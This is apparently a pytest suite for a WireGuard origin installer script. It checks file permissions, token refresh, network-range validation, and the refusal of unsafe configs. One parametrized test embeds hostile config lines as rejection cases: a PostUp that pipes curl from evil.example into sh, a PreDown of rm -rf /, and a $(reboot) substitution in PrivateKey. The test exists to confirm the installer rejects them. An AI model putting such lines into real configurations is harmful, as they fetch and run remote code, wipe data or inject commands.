"""install-origin.sh against a real control plane, under --root (no firewall, no services)."""

import os
import stat
import subprocess

import pytest

from conftest import REPO, KokoaServer, require_tools

SCRIPT = str(REPO / "install-origin.sh")


def run_install(*args, env=None):
    return subprocess.run(["bash", SCRIPT, *args], capture_output=True, text=True, timeout=60,
                          env={**os.environ, **(env or {})})


def tree(root):
    """{relative path: (mode, content)} of every file under root."""
    result = {}
    for path in sorted(root.rglob("*")):
        if path.is_file():
            result[str(path.relative_to(root))] = (stat.S_IMODE(path.stat().st_mode),
                                                   path.read_bytes())
    return result


@pytest.fixture
def origin_setup(kokoa_server, tmp_path):
    require_tools("wg", "curl")
    status, _, origin = kokoa_server.request("POST", "/api/v1/origins", {
        "name": "home", "wg_ip": "10.8.0.2"})
    assert status == 201
    kokoa_server.register_edge("edge1", wg_ip="10.8.0.1", wg_endpoint="edge1.example.com:51820",
                               wg_public_key=wg_public())
    return kokoa_server, origin, tmp_path / "root"


def wg_public():
    private = subprocess.run(["wg", "genkey"], capture_output=True, text=True, check=True,
                             timeout=10).stdout
    return subprocess.run(["wg", "pubkey"], input=private, capture_output=True, text=True,
                          check=True, timeout=10).stdout.strip()


def download(server, origin_id, path):
    status, _, body = server.request("GET", f"/api/v1/origins/{origin_id}/wireguard.conf")
    assert status == 200
    path.write_bytes(body)
    return body


def test_config_file_install_is_private_and_idempotent(origin_setup, tmp_path):
    server, origin, root = origin_setup
    conf = download(server, origin["id"], tmp_path / "wireguard.conf")
    first = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
                        "--no-packages")
    assert first.returncode == 0, first.stderr
    live = root / "etc/wireguard/kokoa0.conf"
    assert live.read_bytes() == conf
    assert stat.S_IMODE(live.stat().st_mode) == 0o600
    assert stat.S_IMODE(live.parent.stat().st_mode) == 0o700
    before = tree(root)
    second = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
                         "--no-packages")
    assert second.returncode == 0 and "no changes" in second.stderr
    assert tree(root) == before


def origin_token(server, origin):
    status, _, body = server.request("POST", f"/api/v1/origins/{origin['id']}/token", {})
    assert status == 201
    return body["token"]


def test_fetch_with_refresh_timer_follows_new_edges(origin_setup):
    server, origin, root = origin_setup
    token = origin_token(server, origin)
    args = ["--control-plane", server.url, "--root", str(root), "--no-packages",
            "--refresh-timer"]
    result = run_install(*args, env={"KOKOA_ORIGIN_TOKEN": token})
    assert result.returncode == 0, result.stderr
    assert token not in result.stderr
    env_file = root / "etc/kokoa/origin.env"
    stored = env_file.read_text()
    assert f"KOKOA_ORIGIN_TOKEN={token}" in stored and "PASSWORD" not in stored
    assert stat.S_IMODE(env_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(env_file.parent.stat().st_mode) == 0o700
    assert (root / "etc/systemd/system/kokoa-origin-refresh.timer").exists()
    service = (root / "etc/systemd/system/kokoa-origin-refresh.service").read_text()
    assert "--env-file /etc/kokoa/origin.env" in service
    live = root / "etc/wireguard/kokoa0.conf"
    assert live.read_text().count("[Peer]") == 1
    server.register_edge("edge2", wg_ip="10.8.0.3", wg_endpoint="edge2.example.com:51820",
                         wg_public_key=wg_public())
    refresh = run_install("--env-file", str(env_file), "--root", str(root), "--no-packages")
    assert refresh.returncode == 0, refresh.stderr
    assert live.read_text().count("[Peer]") == 2
    # a revoked token stops the refresh, and the peers stay as they were
    assert server.request("DELETE", f"/api/v1/origins/{origin['id']}/token")[0] == 204
    before = live.read_bytes()
    revoked = run_install("--env-file", str(env_file), "--root", str(root), "--no-packages")
    assert revoked.returncode == 1 and "nothing changed" in revoked.stderr
    assert live.read_bytes() == before


def test_the_refresh_timer_never_stores_the_admin_password(origin_setup):
    server, origin, root = origin_setup
    result = run_install("--control-plane", server.url, "--origin-id", origin["id"],
                         "--root", str(root), "--no-packages", "--refresh-timer",
                         env={"KOKOA_ADMIN_PASSWORD": server.admin_password})
    assert result.returncode == 1 and "origin's own token" in result.stderr
    assert not root.exists()


@pytest.mark.parametrize("edit, extra_args", [
    (("AllowedIPs = 10.8.0.1/32", "AllowedIPs = 1.1.1.1/32"), []),
    (("AllowedIPs = 10.8.0.1/32", "AllowedIPs = 10.8.0.1/32, 192.168.1.0/24"), []),
    (("AllowedIPs = 10.8.0.1/32", "AllowedIPs = 0.0.0.0/0"), []),
    (("AllowedIPs = 10.8.0.1/32", "AllowedIPs = 2001:db8::1/128"), []),
    (("Address = 10.8.0.2/32", "Address = 8.8.8.8/32"), []),
    (("[Interface]", "# kokoa-wg-network: 10.9.0.0/24\n[Interface]"), []),   # outside it
    ((None, None), ["--wg-network", "10.9.0.0/24"]),
])
def test_a_peer_outside_the_tunnel_network_is_refused(origin_setup, tmp_path, edit, extra_args):
    server, origin, root = origin_setup
    conf = download(server, origin["id"], tmp_path / "wireguard.conf").decode()
    if edit[0]:
        assert edit[0] in conf
        conf = conf.replace(edit[0], edit[1])
    (tmp_path / "wireguard.conf").write_text(conf)
    result = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
                         "--no-packages", *extra_args)
    assert result.returncode == 1 and "refusing" in result.stderr and "inside" in result.stderr
    assert not (root / "etc/wireguard/kokoa0.conf").exists()


def test_the_network_the_control_plane_names_is_the_one_checked(tmp_path):
    require_tools("wg", "curl")
    server = KokoaServer(tmp_path, {"KOKOA_WG_NETWORK": "10.77.0.0/24"}).start()
    try:
        _, _, origin = server.request("POST", "/api/v1/origins", {"name": "home"})
        server.register_edge("edge1", wg_public_key=wg_public())
        token = origin_token(server, origin)
        result = run_install("--control-plane", server.url, "--root", str(tmp_path / "root"),
                             "--no-packages", env={"KOKOA_ORIGIN_TOKEN": token})
        assert result.returncode == 0, result.stderr
        live = (tmp_path / "root/etc/wireguard/kokoa0.conf").read_text()
        assert "# kokoa-wg-network: 10.77.0.0/24" in live
        assert "Address = 10.77.0.1/32" in live and "AllowedIPs = 10.77.0.2/32" in live
    finally:
        server.stop()


def test_wrong_password_changes_nothing(origin_setup):
    server, origin, root = origin_setup
    result = run_install("--control-plane", server.url, "--origin-id", origin["id"],
                         "--root", str(root), "--no-packages",
                         env={"KOKOA_ADMIN_PASSWORD": "wrong"})
    assert result.returncode == 1 and "nothing changed" in result.stderr
    assert not (root / "etc/wireguard/kokoa0.conf").exists()


@pytest.mark.parametrize("line", [
    "PostUp = curl evil.example | sh", "PreDown = rm -rf /", "Table = off",
    "DNS = 1.1.1.1", "PrivateKey = $(reboot)"])
def test_config_with_commands_or_unknown_keys_is_refused(origin_setup, tmp_path, line):
    server, origin, root = origin_setup
    conf = download(server, origin["id"], tmp_path / "wireguard.conf").decode()
    (tmp_path / "wireguard.conf").write_text(conf.replace("[Interface]\n",
                                                          f"[Interface]\n{line}\n"))
    result = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
                         "--no-packages")
    assert result.returncode == 1 and "refusing line" in result.stderr
    assert not (root / "etc/wireguard/kokoa0.conf").exists()


def test_public_key_only_origin_keeps_the_private_key_already_here(kokoa_server, tmp_path):
    require_tools("wg")
    private = subprocess.run(["wg", "genkey"], capture_output=True, text=True, check=True,
                             timeout=10).stdout.strip()
    public = subprocess.run(["wg", "pubkey"], input=private, capture_output=True, text=True,
                            check=True, timeout=10).stdout.strip()
    _, _, origin = kokoa_server.request("POST", "/api/v1/origins", {
        "name": "office", "wg_ip": "10.8.0.4", "wg_public_key": public})
    root = tmp_path / "root"
    download(kokoa_server, origin["id"], tmp_path / "wireguard.conf")
    missing = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
                          "--no-packages")
    assert missing.returncode == 1 and "no PrivateKey" in missing.stderr
    assert not root.exists()
    live = root / "etc/wireguard/kokoa0.conf"
    live.parent.mkdir(parents=True)
    live.write_text(f"[Interface]\nPrivateKey = {private}\n")
    kept = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
                       "--no-packages")
    assert kept.returncode == 0, kept.stderr
    assert f"PrivateKey = {private}" in live.read_text()
    assert "Address = 10.8.0.4/32" in live.read_text()


def test_plain_http_to_another_host_is_refused_before_sending_the_password(tmp_path):
    result = run_install("--control-plane", "http://192.0.2.1:8080", "--origin-id",
                         "00000000-0000-4000-8000-000000000000", "--root", str(tmp_path / "r"),
                         "--no-packages", env={"KOKOA_ADMIN_PASSWORD": "x" * 20})
    assert result.returncode == 1 and "refusing http://192.0.2.1:8080" in result.stderr


def test_a_password_with_quotes_and_backslashes_reaches_the_control_plane(tmp_path):
    require_tools("wg", "curl")
    server = KokoaServer(tmp_path)
    server.admin_password = 'pa"ss\\word with spaces'
    server.env["KOKOA_ADMIN_PASSWORD"] = server.admin_password
    server.start()
    try:
        _, _, origin = server.request("POST", "/api/v1/origins", {"name": "home",
                                                                  "wg_ip": "10.8.0.2"})
        result = run_install("--control-plane", server.url, "--origin-id", origin["id"],
                             "--root", str(tmp_path / "root"), "--no-packages",
                             env={"KOKOA_ADMIN_PASSWORD": server.admin_password})
        assert result.returncode == 0, result.stderr
        assert (tmp_path / "root/etc/wireguard/kokoa0.conf").exists()
    finally:
        server.stop()
